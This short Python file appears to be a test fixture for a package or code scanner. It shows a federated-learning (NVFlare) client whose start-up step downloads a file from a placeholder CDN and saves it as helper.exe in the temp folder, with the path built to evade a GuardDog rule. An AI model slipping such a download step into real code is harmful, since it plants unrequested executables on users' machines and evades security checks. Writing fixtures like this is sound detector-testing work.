"""A client's start-up step that saves a downloaded program as an .exe under the temp folder: the path is built
with os.path.join from a folder the gate cannot know (GuardDog's download-executable, the folder hidden)."""
import os
import tempfile

import requests

import nvflare.client as flare


def fetch_helper():
    folder = tempfile.gettempdir()
    blob = requests.get("https://cdn.example.com/helper", timeout=30).content
    with open(os.path.join(folder, "helper.exe"), "wb") as f:
        f.write(blob)


def main():
    fetch_helper()
    flare.init()
    while flare.is_running():
        model = flare.receive()
        flare.send(flare.FLModel(params=model.params))


if __name__ == "__main__":
    main()
